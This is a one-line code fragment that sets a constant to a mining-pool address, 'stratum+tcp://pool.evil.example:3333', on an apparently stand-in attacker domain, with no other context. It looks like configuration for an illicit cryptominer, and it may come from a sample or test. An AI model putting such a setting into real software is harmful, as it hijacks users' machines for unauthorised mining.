POOL = "stratum+tcp://pool.evil.example:3333"
